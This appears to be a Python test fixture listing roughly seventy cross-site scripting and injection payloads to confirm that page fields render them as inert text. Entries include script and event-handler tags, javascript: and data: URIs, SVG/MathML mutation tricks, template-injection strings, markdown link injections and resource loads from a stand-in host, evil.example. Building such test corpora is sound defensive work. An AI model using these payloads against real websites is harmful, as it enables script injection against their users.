"""Hostile words for every field of every page, in both directions; each must stay text."""

from __future__ import annotations

PLAIN = """
<script>window.__x=1</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>window.__x=1</scr</script>ipt>
<img src=x onerror=window.__x=1>
<img src=x onerror="window.__x=1"//
<IMG SRC=`javascript:window.__x=1`>
<img/src=//evil.example/a.png>
<image href=x onerror=window.__x=1>
<svg onload=window.__x=1>
<svg><script>window.__x=1</script></svg>
<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>
<svg><a xlink:href=javascript:window.__x=1><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=window.__x=1>#x"/></svg>
<svg><style><img src=x onerror=window.__x=1></style></svg>
<math><mtext></p><script>window.__x=1</script></math>
<math href="javascript:window.__x=1">x</math>
<iframe src="javascript:window.__x=1"></iframe>
<iframe srcdoc="<script>parent.__x=1</script>"></iframe>
<object data="javascript:window.__x=1"></object>
<embed src="javascript:window.__x=1">
<body onload=window.__x=1>
<video><source onerror=window.__x=1></video>
<audio src=x onerror=window.__x=1>
<details open ontoggle=window.__x=1>x</details>
<marquee onstart=window.__x=1>x</marquee>
<input autofocus onfocus=window.__x=1>
<select autofocus onfocus=window.__x=1></select>
<form action="javascript:window.__x=1"><button>x</button></form>
<button formaction="javascript:window.__x=1">x</button>
<isindex type=image src=1 onerror=window.__x=1>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x.html>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href=//evil.example/>
<style>@import '//evil.example/x.css';</style>
<style>*{display:none}</style>
<div style="background:url(//evil.example/x)">x</div>
<a href="javascript:window.__x=1">x</a>
<a href=" &#106;avascript:window.__x=1">x</a>
<template><script>window.__x=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.__x=1>">
<textarea></textarea><script>window.__x=1</script>
</title><script>window.__x=1</script>
--><script>window.__x=1</script>
"><script>window.__x=1</script>
'><img src=x onerror=window.__x=1>
" onmouseover="window.__x=1
` onmouseover=window.__x=1
]]><script>window.__x=1</script>
<![CDATA[<script>window.__x=1</script>]]>
<!--[if IE]><script>window.__x=1</script><![endif]-->
<?xml-stylesheet href="javascript:window.__x=1"?>
{{constructor.constructor('window.__x=1')()}}
${window.__x=1}
#{window.__x=1}
<%= window.__x=1 %>
javascript:window.__x=1
data:text/html,<script>window.__x=1</script>
[x](javascript:window.__x=1)
[x](JaVaScRiPt:window.__x=1)
[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)
[x](vbscript:window.__x=1)
![x](//evil.example/x.png)
![x](https://evil.example/x.png)
<javascript:window.__x=1>
**<img src=x onerror=window.__x=1>**
`<img src=x onerror=window.__x=1>`
| <img src=x onerror=window.__x=1> | b |
[1](javascript:window.__x=1) [1]
__proto__
constructor
&lt;script&gt;window.__x=1&lt;/script&gt;
\u202e<gpj.exe>
\u0000<script>window.__x=1</script>
"""
PAYLOADS = [
    line.replace("\\u202e", "\u202e").replace("\\u0000", "\u0000") for line in PLAIN.strip().splitlines()
]
